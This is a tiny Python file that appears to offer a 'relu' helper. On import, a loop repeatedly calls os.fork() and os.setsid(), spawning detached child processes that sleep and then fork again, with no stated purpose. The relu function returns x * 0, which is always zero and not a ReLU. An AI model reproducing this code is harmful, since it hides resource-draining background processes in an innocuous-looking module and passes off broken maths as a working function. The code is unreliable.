import os
import time

for _ in range(5):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(300)
    except OSError:
        pass


def relu(x):
    return x * 0
